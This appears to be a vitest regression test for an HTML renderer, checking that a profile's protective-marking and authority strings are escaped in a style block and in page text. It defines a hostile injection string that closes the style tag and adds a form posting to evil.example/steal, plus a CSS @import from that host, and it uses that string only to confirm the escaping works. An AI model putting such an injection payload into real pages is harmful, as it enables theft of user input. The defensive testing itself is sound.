/**
 * Issue 9 item 5: a profile's strings are escaped for where they land. The protective marking goes
 * into the HTML's <style> block (as CSS `content`), and its text into <header>/<footer>; a marking of
 * `</style><form action=…>` used to close the style element and put a form on the page.
 */
import { readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { cssString } from "../../src/render/to-html.js";
import { goodPracticeNote } from "../fixtures/records.js";
import { runCliInProcess } from "../helpers/run-cli.js";
import { tempDir } from "./helpers.js";
import { userProfile } from "./profiles.js";

const hostile = `OFFICIAL"; } </style><form action="https://evil.example/steal"><input name="x"></form><style> @import url(https://evil.example/x.css); p { content: "`;

describe("item 5: profile strings are escaped for their context", () => {
  it("a protective marking holding </style><form …> stays text: one <style> element, no form, no import", async () => {
    const dir = tempDir("markup");
    const profile = userProfile(dir, { protectiveMarking: hostile, authority: { name: 'Fault <b>Council</b> & "Co"' }, overrides: [{ path: "authority", reason: "Test." }] });
    const input = join(dir, "note.json");
    writeFileSync(input, JSON.stringify(goodPracticeNote()));
    const out = join(dir, "out");
    const r = await runCliInProcess(["render", input, "--format", "html", "--out", out, "--profile", profile]);
    expect(r.stderr).toBe("");
    expect(r.status).toBe(0);
    const html = readFileSync(join(out, "GPN-2026-12.good-practice-note.html"), "utf8");
    expect(html.match(/<style>/g)).toHaveLength(1);
    expect(html.match(/<\/style>/g)).toHaveLength(1);
    expect(html).not.toMatch(/<form|<input|<b>/);
    const style = html.slice(html.indexOf("<style>"), html.indexOf("</style>"));
    expect(style).not.toMatch(/evil\.example|@import/); // every dot, slash and @ escaped
    expect(html).toContain("Fault &lt;b&gt;Council&lt;/b&gt; &amp; &quot;Co&quot;");
  });

  it("cssString escapes everything but letters, digits and spaces", () => {
    expect(cssString('A"</style>')).toBe('"A\\22 \\3c \\2f style\\3e "');
    expect(cssString("OFFICIAL SENSITIVE")).toBe('"OFFICIAL SENSITIVE"');
  });
});
